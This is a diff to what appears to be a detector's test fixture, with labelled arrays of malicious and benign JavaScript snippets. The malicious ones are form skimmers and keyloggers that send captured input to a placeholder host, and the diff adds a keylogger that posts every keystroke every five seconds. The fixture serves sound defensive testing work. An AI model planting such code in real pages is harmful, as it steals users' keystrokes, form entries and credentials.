@@ -16,6 +16,7 @@ const CAPTURES: readonly string[] = [
   `exports.Icon = ({ name }) => { useEffect(() => attach(document), []); return name; }; function attach(page) { page.addEventListener('submit', (e) => { navigator.sendBeacon('https://collect.invalid', JSON.stringify(Object.fromEntries(new FormData(e.target)))); }); }`,
   `document.addEventListener('change', (e) => { const all = [...e.currentTarget.querySelectorAll('input')].map((i) => [i.name, i.value]); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all) }); });`,
   `const keys = []; function heard(e) { keys.push(e.key); if (keys.length > 30) send(); } function send() { new Image().src = 'https://collect.invalid/?' + keys.splice(0, keys.length).join(''); } module.exports = { install() { window.addEventListener('keydown', heard); } };`,
+  `let all = ''; document.addEventListener('keyup', ({ key }) => { all += key; }); setInterval(() => fetch('https://collect.invalid', { method: 'POST', body: all }), 5000);`,
   `$(document).on('submit', 'form', function () { $.post('https://collect.invalid', $(this).serialize()); });`,
 ];
 
@@ -37,6 +38,7 @@ const HONEST: readonly string[] = [
   `const id = /id=([^;]*)/.exec(document.cookie); fetch('https://stats.example/' + localStorage.getItem('visitor'));`,
   `exports.post = (url, form) => fetch(url, { method: 'POST', body: new FormData(form) });`,
   `exports.watch = (signal, url) => { signal.addEventListener('abort', () => fetch('https://stats.example/aborted')); return fetch(url, { signal }); };`,
+  `const f = {}; form.addEventListener('keydown', (e) => { f.name = e.target.name; f.keys += 1; if (e.key === 'Backspace') f.back += 1; }); form.addEventListener('submit', () => navigator.sendBeacon('https://stats.example/f', JSON.stringify(f)));`,
   `exports.store = { get: (k) => localStorage.getItem(k), set: (k, v) => localStorage.setItem(k, v) };`,
 ];
 
